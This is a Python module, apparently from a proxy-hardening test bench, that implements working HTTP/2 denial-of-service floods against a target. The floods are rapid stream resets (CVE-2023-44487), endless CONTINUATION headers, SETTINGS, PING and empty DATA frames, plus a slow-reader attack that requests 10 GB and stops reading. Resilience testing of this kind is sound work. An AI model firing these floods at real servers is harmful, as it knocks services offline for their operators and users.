"""Floods that HTTP/2 makes cheap for who sends them: resets, CONTINUATION, SETTINGS, PING, empty DATA."""

from __future__ import annotations

import ssl
import time
from collections.abc import Callable

from bench.abuse.aim import GONE, Aim, Report, clock, frame, request_block

RESETS = 20_000
BATCH = 100


def _flood(aim: Aim, what: str, batch: Callable[[int], bytes], frames: int, most: int | None = None) -> Report:
    """Send batches on one connection after another, and never read an answer. ``batch`` gets a count from 0."""
    context = aim.context("h2")
    sent = connections = ended = 0
    more = clock(aim.seconds)
    while more() and (most is None or sent < most):
        try:
            with aim.http2(context) as tls:
                connections += 1
                tls.settimeout(5)
                count = 0
                while more() and (most is None or sent < most):
                    tls.sendall(batch(count))
                    count += 1
                    sent += frames
        except GONE:
            ended += 1
    return Report(f"{sent} {what} over {connections} connections, of which the proxy ended {ended}")


def resets(aim: Aim) -> Report:
    """Requests that are reset as soon as they are made (CVE-2023-44487)."""
    block = request_block(aim)

    def batch(count: int) -> bytes:
        first = 1 + 2 * BATCH * count
        return b"".join(
            frame(1, 5, stream, block) + frame(3, 0, stream, b"\0\0\0\x08")
            for stream in range(first, first + 2 * BATCH, 2)
        )

    return _flood(aim, "resets", batch, BATCH, RESETS)


def continuation(aim: Aim) -> Report:
    """A header block without an end (CVE-2024-27316 and others)."""
    block = request_block(aim)
    filler = b"".join(b"\x00\x08x-filler\x7f\x01" + b"a" * 128 for _ in range(64))

    def batch(count: int) -> bytes:
        begin = frame(1, 1, 1, block) if not count else b""
        return begin + frame(9, 0, 1, filler) * 8

    return _flood(aim, "CONTINUATION frames", batch, 8)


def empty_continuation(aim: Aim) -> Report:
    """The same with frames of no bytes."""
    block = request_block(aim)

    def batch(count: int) -> bytes:
        begin = frame(1, 1, 1, block) if not count else b""
        return begin + frame(9, 0, 1) * BATCH

    return _flood(aim, "empty CONTINUATION frames", batch, BATCH)


def settings(aim: Aim) -> Report:
    """SETTINGS, each of which wants an acknowledgement (CVE-2019-9515)."""
    return _flood(aim, "SETTINGS", lambda _: frame(4, 0, 0, b"\0\x03\0\0\0\x64") * BATCH, BATCH)


def pings(aim: Aim) -> Report:
    """PING, each of which wants an answer (CVE-2019-9512)."""
    return _flood(aim, "PING frames", lambda _: frame(6, 0, 0, b"12345678") * BATCH, BATCH)


def empty_data(aim: Aim) -> Report:
    """DATA without bytes on an open stream (CVE-2019-9518)."""
    block = request_block(aim)

    def batch(count: int) -> bytes:
        return (frame(1, 4, 1, block) if not count else b"") + frame(0, 0, 1) * BATCH

    return _flood(aim, "empty DATA frames", batch, BATCH)


def stopped_reader(aim: Aim) -> Report:
    """10 GB asked for, over HTTP/1.1 and HTTP/2 with open windows, by clients that then stop reading."""
    held: list[ssl.SSLSocket] = []
    failed = 0
    http1, http2 = aim.context(), aim.context("h2")
    more = clock(aim.seconds)
    for number in range(16):
        try:
            if number % 2:
                tls = aim.http2(http2)
                tls.sendall(frame(4, 0, 0, b"\0\x04\x7f\xff\xff\xff") + frame(8, 0, 0, b"\x7f\xfe\xff\xff"))
                tls.sendall(frame(1, 5, 1, request_block(aim, "/endless")))
            else:
                tls = aim.tls(http1)
                tls.sendall(aim.request("/endless"))
            tls.recv(1000)
            held.append(tls)
        except GONE:
            failed += 1
    while more():
        time.sleep(0.5)
    for each in held:
        each.close()
    return Report(f"{len(held)} clients stopped reading 10 GB; {failed} were refused")
